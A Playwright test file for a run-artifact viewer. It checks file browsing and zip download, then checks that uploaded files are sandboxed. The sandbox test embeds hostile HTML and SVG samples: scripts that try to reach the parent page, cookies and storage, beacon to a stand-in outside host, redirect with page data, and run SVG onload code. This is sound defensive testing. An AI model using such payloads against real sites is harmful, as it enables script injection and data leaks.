// Files of a run: looked at, downloaded, and kept from reaching out of where they are shown.
import { readFileSync } from "node:fs";
import { once } from "node:events";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { expect, test } from "@playwright/test";
import { ORDINARY, runWith, withoutFiles } from "../support/files";
import { complaintsOf, signIn } from "../support/people";

/** Tries every way out, and writes down what became of each. */
const hostile = (elsewhere: string) => `<!doctype html><title>hostile</title><pre id="result"></pre><script>
  const told = {};
  const attempt = (name, what) => { try { what(); told[name] = "reached"; } catch { told[name] = "refused"; } };
  attempt("parent", () => (parent.document.title = "owned"));
  attempt("cookie", () => document.cookie.length);
  attempt("storage", () => localStorage.length);
  attempt("top", () => (top.location.href = "${elsewhere}/top"));
  new Image().src = "${elsewhere}/pixel.png";
  const form = document.createElement("form");
  form.action = "${elsewhere}/form";
  document.body.append(form);
  try { form.submit(); } catch {}
  const done = () => (document.getElementById("result").textContent = JSON.stringify(told));
  fetch("/api/v1/user").then(() => (told.network = "reached"), () => (told.network = "refused")).then(done);
</script>`;
const leaving = (elsewhere: string) => `<!doctype html><title>leaving</title><script>location.href = "${elsewhere}/left?" + encodeURIComponent(document.title);</script>`;
const DRAWN = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="document.documentElement.setAttribute('data-ran', '')"><script>document.documentElement.setAttribute('data-ran', '')</script></svg>`;

test("files are found in the tree, shown as what they are, and downloaded", async ({ page }) => {
  const run = await runWith("files of every sort", ORDINARY);
  const complaints = complaintsOf(page);
  await signIn(page, "viewer");
  await page.goto(`/w/default/runs/${run}`);
  await page.getByRole("navigation", { name: "Run" }).getByRole("link", { name: /^Artifacts/ }).click();
  const tree = page.getByRole("navigation", { name: "Files" });

  await test.step("an image", async () => {
    await tree.getByRole("link", { name: /^plots/ }).click();
    await expect(tree.getByRole("link", { name: /^plots/ })).toHaveAttribute("aria-expanded", "true");
    await tree.getByRole("link", { name: /^curve\.png/ }).click();
    const image = page.getByRole("img", { name: "curve.png" });
    await expect(image).toBeVisible();
    await expect.poll(() => image.evaluate((one: HTMLImageElement) => one.naturalWidth)).toBe(1);
    await tree.getByRole("link", { name: /^shapes\.svg/ }).click();
    const shapes = page.getByRole("img", { name: "shapes.svg" });
    await expect(shapes).toBeVisible();
    await expect.poll(() => shapes.evaluate((one: HTMLImageElement) => one.naturalWidth)).toBe(40);
  });

  await test.step("a table, by the keyboard", async () => {
    await tree.getByRole("link", { name: /^data/ }).focus();
    await page.keyboard.press("Enter");
    await tree.getByRole("link", { name: /^rows\.csv/ }).focus();
    await page.keyboard.press("Enter");
    await expect(page.getByRole("cell", { name: "Barolo, 2019" })).toBeVisible();
    expect(page.url()).toContain("path=data%2Frows.csv");
  });

  await test.step("prose leads to the files it names", async () => {
    await tree.getByRole("link", { name: /^README\.md/ }).click();
    await page.getByRole("link", { name: "the rows" }).click();
    await expect(page.getByRole("columnheader", { name: "alcohol" })).toBeVisible();
  });

  await test.step("all of them as one archive", async () => {
    const saving = page.waitForEvent("download");
    await page.getByRole("link", { name: "Download all as zip" }).click();
    const saved = await saving;
    expect(saved.suggestedFilename()).toBe(`${run}.zip`);
    const bytes = readFileSync(await saved.path());
    expect(bytes.subarray(0, 2).toString()).toBe("PK");
    for (const path of Object.keys(ORDINARY)) expect(bytes.includes(path)).toBe(true);
  });
  expect(complaints).toEqual([]);
});

test("a document runs apart: it reaches neither the page around it nor the network, and never our origin", async ({ page }) => {
  // Another site, which hears of whatever gets out.
  const heard: string[] = [];
  const site = createServer((request, answer) => {
    heard.push(request.url ?? "");
    answer.end();
  }).listen(0, "127.0.0.1");
  await once(site, "listening");
  const elsewhere = `http://127.0.0.1:${(site.address() as AddressInfo).port}`;
  const run = await runWith("hostile files", { "hostile.html": hostile(elsewhere), "leaving.html": leaving(elsewhere), "drawn.svg": DRAWN });
  await signIn(page, "viewer");
  const at = (path: string) => `/w/default/runs/${run}?tab=artifacts&path=${path}`;
  const own = (path: string) => `/w/default/runs/${run}/shown?path=${path}`;

  await test.step("within the page", async () => {
    await page.goto(at("hostile.html"));
    const title = await page.title();
    const result = page.frameLocator("iframe").locator("#result");
    await expect(result).not.toBeEmpty();
    expect(JSON.parse((await result.textContent()) ?? "")).toEqual({ parent: "refused", cookie: "refused", storage: "refused", top: "refused", network: "refused" });
    expect(await page.title()).toBe(title);
    expect(page.url()).toContain("tab=artifacts");
  });

  await test.step("it cannot lead its frame away", async () => {
    await page.goto(at("leaving.html"));
    await expect(page.getByRole("heading", { name: "leaving.html" })).toBeVisible();
    await page.waitForLoadState("networkidle");
    expect(page.frames().filter((frame) => frame.url().startsWith(elsewhere))).toEqual([]);
  });

  await test.step("opened by its own address", async () => {
    await page.goto(own("hostile.html"));
    expect(page.url()).toContain("tab=artifacts&path=hostile.html");
    expect(await page.title()).not.toBe("hostile");
    await page.goto(own("drawn.svg"));
    expect(await page.locator("svg").getAttribute("data-ran")).toBeNull();
    await page.goto(at("drawn.svg"));
    await expect(page.getByRole("img", { name: "drawn.svg" })).toBeVisible();
  });
  expect(heard).toEqual([]);
  site.close();
  // Whoever looks at every page after this would hear the browser complain of what it refused.
  await withoutFiles(run, ["hostile.html", "leaving.html", "drawn.svg"]);
});
